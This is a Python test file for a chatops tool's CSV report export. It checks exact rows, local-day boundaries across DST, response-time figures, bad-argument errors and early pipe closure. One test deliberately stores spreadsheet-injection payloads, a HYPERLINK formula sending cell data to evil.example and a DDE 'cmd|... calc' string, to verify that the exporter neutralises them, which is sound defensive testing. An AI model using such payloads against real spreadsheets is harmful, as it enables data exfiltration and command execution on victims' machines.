"""``chatops report`` as CSV: the exact rows of a fixed data set, local days across DST, hostile text, bad arguments.

Each test writes rows at exact times with :class:`Data`, runs the real ``chatops`` command
(``chatops.cli.main`` with a config file naming the test database) and reads what a manager
would get: the CSV text, parsed back with the csv module.
"""

from __future__ import annotations

import asyncio
import csv
import io
import os
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from digest_kit import MANAGERS, Data

from chatops.cli import main
from chatops.db import Database
from chatops.models import AuditEntry, Message
from chatops_plugins.digest import export, log_rows
from chatops_plugins.digest.periods import days_window

HELSINKI = "Europe/Helsinki"
#: "Now" for every export here: answers count up to it.
NOW = datetime(2027, 1, 2, 12, 0, tzinfo=UTC)


def utc(*parts: int) -> datetime:
    return datetime(*parts, tzinfo=UTC)  # type: ignore[misc]


@pytest.fixture(autouse=True)
def _fixed_now(monkeypatch: pytest.MonkeyPatch) -> None:
    """The export's clock, and no CHATOPS_* variable from the shell overriding the config file."""
    monkeypatch.setattr(export, "clock", lambda: NOW)
    for name in list(os.environ):
        if name.startswith("CHATOPS_"):
            monkeypatch.delenv(name)


def write_config(tmp_path: Path, url: str, *, timezone: str = HELSINKI, language: str = "en", rota: str = "") -> Path:
    """A config file whose database is the test's and whose plugins include the digest."""
    enabled = '["digest", "rota"]' if rota else '["digest"]'
    path = tmp_path / "config.toml"
    path.write_text(
        '[slack]\nbot_token = "xoxb-1"\napp_token = "xapp-1"\ninbox_channel = "CINBOX"\n'
        f'[team]\ntimezone = "{timezone}"\nlanguage = "{language}"\n'
        f"[database]\nurl = {url!r}\n"
        f"[plugins]\nenabled = {enabled}\n"
        f'[plugins.digest]\nchannel = "{MANAGERS}"\n' + rota,
        encoding="utf-8",
    )
    return path


async def report(config: Path, capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    """``chatops -c config report *args`` (in a thread: it runs its own event loop); exit code, stdout, stderr."""
    capsys.readouterr()
    code = await asyncio.to_thread(main, ["-c", str(config), "report", *args])
    out, err = capsys.readouterr()
    return code, out, err


def parse(text: str) -> list[dict[str, str]]:
    """The CSV as dicts; the header must be exactly the documented columns."""
    reader = csv.reader(io.StringIO(text, newline=""))
    header = next(reader)
    assert tuple(header) == log_rows.COLUMNS
    return [dict(zip(header, row, strict=True)) for row in reader]


def pick(rows: list[dict[str, str]], *columns: str) -> list[tuple[str, ...]]:
    return [tuple(row[c] for c in columns) for row in rows]


@pytest.fixture
async def db(digest_database: str) -> Any:
    database = Database(digest_database)
    yield database
    await database.dispose()


async def test_a_day_exports_every_message_and_action_in_order_with_exact_key_columns(
    db: Database, digest_database: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = Data(db)
    # Yesterday's last second (local): out, but its answer today is in, with the conversation's figure.
    old = await data.conversation(utc(2026, 11, 30, 21, 59, 59), name="Olli", author="olli", text="Late question")
    await data.reply(old, utc(2026, 12, 1, 6, 0, 0), text="Good morning, here is the answer.")
    one = await data.conversation(utc(2026, 12, 1, 8, 0), name="Customer One", handle="c_one", text="Hello?")
    await data.claim(one, utc(2026, 12, 1, 8, 5), "UANNA")
    await data.reply(one, utc(2026, 12, 1, 8, 10, 30), text="Thanks, we are on it.")
    await data.tag(one, "complaint", utc(2026, 12, 1, 8, 12))
    await data.tag(one, "billing", utc(2026, 12, 1, 8, 13))
    # The local day's last second: in. Its failed reply is in, with its delivery, and leaves it unanswered.
    two = await data.conversation(utc(2026, 12, 1, 21, 59, 59), name=None, handle="late_one", author="late", text="Hi")
    await data.reply(two, utc(2026, 12, 1, 21, 59, 59), by="UBEN", delivered=False, text="Sorry")
    # The next local day's first instant: out.
    await data.conversation(utc(2026, 12, 1, 22, 0), name="Tomorrow", text="Too late")
    async with db.write() as session:
        session.add(
            AuditEntry(actor="ULENA", action="rota.shift_added", detail={"who": "UANNA"}, at=utc(2026, 12, 1, 9))
        )

    code, out, err = await report(
        write_config(tmp_path, digest_database), capsys, "--from", "2026-12-01", "--to", "2026-12-01"
    )

    assert code == 0, err
    rows = parse(out)
    columns = ("time_utc", "time_local", "record", "kind", "conversation_id", "author", "agent", "text")
    assert pick(rows, *columns) == [
        ("2026-12-01T06:00:00.000Z", "2026-12-01T08:00:00.000+02:00", "message", "outbound", str(old), "UANNA", "UANNA", "Good morning, here is the answer."),
        ("2026-12-01T06:00:00.000Z", "2026-12-01T08:00:00.000+02:00", "action", "claimed", str(old), "UANNA", "UANNA", '{"by":"answer"}'),
        ("2026-12-01T06:00:00.000Z", "2026-12-01T08:00:00.000+02:00", "action", "reply_sent", str(old), "UANNA", "UANNA", f'{{"message_id":{_id(rows, old, "outbound")}}}'),
        ("2026-12-01T08:00:00.000Z", "2026-12-01T10:00:00.000+02:00", "message", "inbound", str(one), "Customer One (c_one)", "", "Hello?"),
        ("2026-12-01T08:00:00.000Z", "2026-12-01T10:00:00.000+02:00", "action", "received", str(one), "Customer One", "", ""),
        ("2026-12-01T08:05:00.000Z", "2026-12-01T10:05:00.000+02:00", "action", "claimed", str(one), "UANNA", "UANNA", ""),
        ("2026-12-01T08:10:30.000Z", "2026-12-01T10:10:30.000+02:00", "message", "outbound", str(one), "UANNA", "UANNA", "Thanks, we are on it."),
        ("2026-12-01T08:10:30.000Z", "2026-12-01T10:10:30.000+02:00", "action", "reply_sent", str(one), "UANNA", "UANNA", f'{{"message_id":{_id(rows, one, "outbound")}}}'),
        ("2026-12-01T08:12:00.000Z", "2026-12-01T10:12:00.000+02:00", "action", "tagged", str(one), "UANNA", "UANNA", '{"tag":"complaint"}'),
        ("2026-12-01T08:13:00.000Z", "2026-12-01T10:13:00.000+02:00", "action", "tagged", str(one), "UANNA", "UANNA", '{"tag":"billing"}'),
        ("2026-12-01T09:00:00.000Z", "2026-12-01T11:00:00.000+02:00", "action", "rota.shift_added", "", "ULENA", "ULENA", '{"who":"UANNA"}'),
        ("2026-12-01T21:59:59.000Z", "2026-12-01T23:59:59.000+02:00", "message", "inbound", str(two), "late_one", "", "Hi"),
        ("2026-12-01T21:59:59.000Z", "2026-12-01T23:59:59.000+02:00", "message", "outbound", str(two), "UBEN", "UBEN", "Sorry"),
        ("2026-12-01T21:59:59.000Z", "2026-12-01T23:59:59.000+02:00", "action", "received", str(two), "customer", "", ""),
        ("2026-12-01T21:59:59.000Z", "2026-12-01T23:59:59.000+02:00", "action", "claimed", str(two), "UBEN", "UBEN", '{"by":"answer"}'),
        ("2026-12-01T21:59:59.000Z", "2026-12-01T23:59:59.000+02:00", "action", "reply_failed", str(two), "system", "", f'{{"message_id":{_id(rows, two, "outbound")}}}'),
    ]  # fmt: skip
    per_conversation = ("source", "card", "status", "tags", "first_response_seconds", "conversation_created_utc")
    by_conversation = {row["conversation_id"]: tuple(row[c] for c in per_conversation) for row in rows}
    assert by_conversation == {
        str(old): ("webhook", "CINBOX/1700000001.000100", "replied", "", "28801", "2026-11-30T21:59:59.000Z"),
        str(one): ("webhook", "CINBOX/1700000004.000100", "replied", "billing, complaint", "630", "2026-12-01T08:00:00.000Z"),
        str(two): ("webhook", "CINBOX/1700000007.000100", "new", "", "", "2026-12-01T21:59:59.000Z"),
        "": ("", "", "", "", "", ""),
    }  # fmt: skip
    assert [row["delivery"] for row in rows if row["kind"] == "outbound"] == ["sent", "sent", "failed"]
    assert all(row["delivery"] == "" for row in rows if row["kind"] != "outbound")
    # Service hours are not configured: that column stays empty.
    assert {row["first_response_service_seconds"] for row in rows} == {""}
    ids = [(row["record"], row["id"]) for row in rows]
    assert len(set(ids)) == len(ids)
    assert err.strip() == "wrote 16 rows (3 conversations) to standard output"


def _id(rows: list[dict[str, str]], conversation: int, kind: str) -> str:
    """The id of the one message of ``kind`` in ``conversation`` (ids come from the database)."""
    found = [row["id"] for row in rows if row["conversation_id"] == str(conversation) and row["kind"] == kind]
    assert len(found) == 1
    return found[0]


async def test_local_days_follow_dst_and_their_first_and_last_instants(
    db: Database, digest_database: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Helsinki leaves summer time on 2026-10-25 at 04:00 EEST (01:00 UTC): that local day has 25 hours.
    data = Data(db)
    before = await data.conversation(utc(2026, 10, 24, 20, 59, 59), text="23:59:59 the day before")
    first = await data.conversation(utc(2026, 10, 24, 21, 0), text="midnight, summer time")
    summer = await data.conversation(utc(2026, 10, 25, 0, 30), text="03:30 the first time")
    winter = await data.conversation(utc(2026, 10, 25, 1, 30), text="03:30 the second time")
    last = await data.conversation(utc(2026, 10, 25, 21, 59, 59), text="23:59:59 winter time")
    after = await data.conversation(utc(2026, 10, 25, 22, 0), text="midnight the day after")
    await data.reply(summer, utc(2026, 10, 25, 1, 15), text="answered across the change")

    code, out, err = await report(
        write_config(tmp_path, digest_database), capsys, "--from", "2026-10-25", "--to", "2026-10-25"
    )

    assert code == 0, err
    messages = [row for row in parse(out) if row["record"] == "message"]
    assert pick(messages, "conversation_id", "time_utc", "time_local") == [
        (str(first), "2026-10-24T21:00:00.000Z", "2026-10-25T00:00:00.000+03:00"),
        (str(summer), "2026-10-25T00:30:00.000Z", "2026-10-25T03:30:00.000+03:00"),
        (str(summer), "2026-10-25T01:15:00.000Z", "2026-10-25T03:15:00.000+02:00"),
        (str(winter), "2026-10-25T01:30:00.000Z", "2026-10-25T03:30:00.000+02:00"),
        (str(last), "2026-10-25T21:59:59.000Z", "2026-10-25T23:59:59.000+02:00"),
    ]
    # 45 minutes of real time, though the wall clock went from 03:30 back to 03:15.
    assert {row["first_response_seconds"] for row in messages if row["conversation_id"] == str(summer)} == {"2700"}
    assert {row["conversation_id"] for row in parse(out)} == {str(first), str(summer), str(winter), str(last)}
    assert str(before) not in {row["conversation_id"] for row in parse(out)} and after != before
    assert err.strip() == "wrote 11 rows (4 conversations) to standard output"


async def test_first_response_in_service_hours_when_the_rota_configures_them(
    db: Database, digest_database: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = Data(db)
    # Tuesday 2026-12-01: open 09:00-17:00 local (07:00-15:00 UTC). Written at 08:00 local, answered 09:30.
    early = await data.conversation(utc(2026, 12, 1, 6, 0), text="before opening")
    await data.reply(early, utc(2026, 12, 1, 7, 30))
    # An automatic reply by a plugin is no answer; a reply on the platform is.
    auto = await data.conversation(utc(2026, 12, 1, 8, 0), text="auto-answered")
    await data.reply(auto, utc(2026, 12, 1, 8, 0, 1), by="bot:rota", text="We are closed")
    await data.answered_on_platform(auto, utc(2026, 12, 1, 8, 20))
    rota = '[plugins.rota]\nleads = ["ULENA"]\n[plugins.rota.service_hours]\ntue = "09:00-17:00"\n'

    code, out, err = await report(
        write_config(tmp_path, digest_database, rota=rota), capsys, "--from", "2026-12-01", "--to", "2026-12-01"
    )

    assert code == 0, err
    figures = {
        row["conversation_id"]: (row["first_response_seconds"], row["first_response_service_seconds"])
        for row in parse(out)
    }
    assert figures == {str(early): ("5400", "1800"), str(auto): ("1200", "1200")}
    assert [row["agent"] for row in parse(out) if row["kind"] == "outbound"] == ["UANNA", "bot:rota"]


async def test_hostile_text_cannot_become_a_formula_and_survives_a_round_trip(
    db: Database, digest_database: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = Data(db)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    awkward = 'He said "hi",\nthen left;\r\n\ttabs, ümlauts, łódź, 🙂 and a trailing quote"'
    one = await data.conversation(utc(2026, 12, 1, 8, 0), name="@SUM(A1:A9)", author="+358401234567", text=formula)
    await data.follow_up(one, utc(2026, 12, 1, 8, 1), name="-Minus", text=awkward)
    await data.follow_up(one, utc(2026, 12, 1, 8, 2), text="\tcmd|' /C calc'!A0")
    await data.tag(one, "=cmd", utc(2026, 12, 1, 8, 3))
    (tmp_path / "out").mkdir()
    output = tmp_path / "out" / "log.csv"

    code, _out, err = await report(
        write_config(tmp_path, digest_database),
        capsys,
        "--from",
        "2026-12-01",
        "--to",
        "2026-12-01",
        "--output",
        str(output),
    )

    assert code == 0, err
    rows = parse(output.read_bytes().decode("utf-8"))  # as written: \r\n inside a text is data
    inbound = [row for row in rows if row["kind"] == "inbound"]
    assert [row["text"] for row in inbound] == ["'" + formula, awkward, "'\tcmd|' /C calc'!A0"]
    assert [row["author"] for row in inbound] == ["'@SUM(A1:A9)", "'-Minus", "Customer One"]
    assert inbound[0]["author_id"] == "'+358401234567"
    assert {row["tags"] for row in rows} == {"'=cmd"}
    # Nothing a spreadsheet would evaluate is left at the start of any cell.
    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert err.strip() == f"wrote 7 rows (1 conversations) to {output}"
    # The file is in place, and its partial copy gone.
    assert os.listdir(output.parent) == ["log.csv"]


async def test_an_empty_period_is_a_header_alone(
    digest_database: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = await report(
        write_config(tmp_path, digest_database), capsys, "--from", "2026-12-01", "--to", "2026-12-31"
    )

    assert code == 0, err
    assert out == ",".join(log_rows.COLUMNS) + "\r\n"
    assert err.strip() == "wrote 0 rows (0 conversations) to standard output"


async def test_rows_stream_in_batches_from_the_database_cursor(db: Database) -> None:
    data = Data(db)
    start = utc(2026, 12, 1, 8, 0)
    for n in range(7):
        conversation = await data.conversation(start + timedelta(minutes=n), text=f"question {n}")
        await data.reply(conversation, start + timedelta(minutes=n, seconds=30), text=f"answer {n}")
    from zoneinfo import ZoneInfo

    window = days_window(start.date(), start.date(), ZoneInfo(HELSINKI), NOW)
    async with db.read() as session:
        total, conversations = await log_rows.count(session, window)
        batches = [batch async for batch in log_rows.stream(session, window, None, batch=4)]
        whole = [row async for batch in log_rows.stream(session, window, None) for row in batch]
    # Each conversation: inbound, received, outbound, claimed, reply_sent.
    assert (total, conversations) == (35, 7)
    assert [len(batch) for batch in batches] == [4] * 8 + [3]
    assert [row for batch in batches for row in batch] == whole
    assert [row.at for row in whole] == sorted(row.at for row in whole)
    async with db.read() as session:
        stored = await session.scalar(sa.select(sa.func.count()).select_from(Message))
    assert stored == 14


@pytest.mark.parametrize(
    ("args", "line"),
    [
        (["--from", "2026-12-31", "--to", "2026-12-01"], "--to 2026-12-01 is before --from 2026-12-31"),
        (["--from", "2026-13-01", "--to", "2026-12-31"], "--from 2026-13-01: not a date like 2026-12-01"),
        (["--from", "2026-12-01", "--to", "yesterday"], "--to yesterday: not a date like 2026-12-01"),
        (
            ["--from", "1999-12-31", "--to", "2026-12-31"],
            "--from 1999-12-31: a date between the years 2000 and 2100, please",
        ),
        (
            ["--from", "2026-12-01", "--to", "2101-01-01"],
            "--to 2101-01-01: a date between the years 2000 and 2100, please",
        ),
        (
            ["--from", "2020-01-01", "--to", "2023-01-01"],
            "the period is 1097 days; one report covers at most 1096 days (3 years)",
        ),
        (["--from", "2026-12-01", "--to", "2026-12-31", "--format", "pdf"], "--format pdf: use csv or xlsx"),
        (
            ["--from", "2026-12-01", "--to", "2026-12-31", "--format", "xlsx"],
            "--format xlsx needs --output FILE (an Excel file cannot go to the terminal)",
        ),
    ],
)
async def test_a_bad_argument_is_one_line_and_exit_2(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], args: list[str], line: str
) -> None:
    # The database is never reached: the URL names a file that does not exist.
    config = write_config(tmp_path, f"sqlite+aiosqlite:///{tmp_path / 'absent.db'}")

    code, out, err = await report(config, capsys, *args)

    assert (code, out, err) == (2, "", line + "\n")
    assert not (tmp_path / "absent.db").exists()


async def test_an_output_in_a_missing_directory_is_refused_in_the_teams_language(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = write_config(tmp_path, f"sqlite+aiosqlite:///{tmp_path / 'absent.db'}", language="fi")
    target = tmp_path / "nowhere" / "log.csv"

    code, out, err = await report(config, capsys, "--from", "2026-12-01", "--to", "2026-12-01", "-o", str(target))

    assert (code, out) == (2, "")
    assert err == f"--output {target}: hakemistoa {target.parent} ei ole\n"


async def test_a_three_year_period_is_allowed_and_dash_is_standard_output(
    digest_database: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = await report(
        write_config(tmp_path, digest_database), capsys, "--from", "2024-01-01", "--to", "2026-12-31", "-o", "-"
    )

    assert code == 0, err
    assert out.startswith("time_utc,")
    assert err.strip() == "wrote 0 rows (0 conversations) to standard output"


async def test_a_reader_that_stops_early_ends_the_export_quietly(
    db: Database, digest_database: str, tmp_path: Path
) -> None:
    """``chatops report … | head -1``: no traceback, no "database unreachable", just an early end."""
    data = Data(db)
    long_text = "A question that takes some room. " * 20
    for n in range(150):  # well over a pipe's 64 KiB
        await data.conversation(utc(2026, 12, 1, 8, 0, n % 60) + timedelta(minutes=n // 60), text=long_text)
    config = write_config(tmp_path, digest_database)
    env = {k: v for k, v in os.environ.items() if not k.startswith("CHATOPS_")}
    command = [
        sys.executable,
        "-m",
        "chatops.cli",
        "-c",
        str(config),
        "report",
        "--from",
        "2026-12-01",
        "--to",
        "2026-12-01",
    ]

    def first_line_then_close() -> tuple[str, int, str]:
        process = subprocess.Popen(command, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        assert process.stdout is not None and process.stderr is not None
        line = process.stdout.readline().decode()
        process.stdout.close()
        err = process.stderr.read().decode()
        return line, process.wait(timeout=60), err

    line, code, err = await asyncio.to_thread(first_line_then_close)

    assert line.startswith("time_utc,time_local,record,")
    assert (code, err) == (1, "")
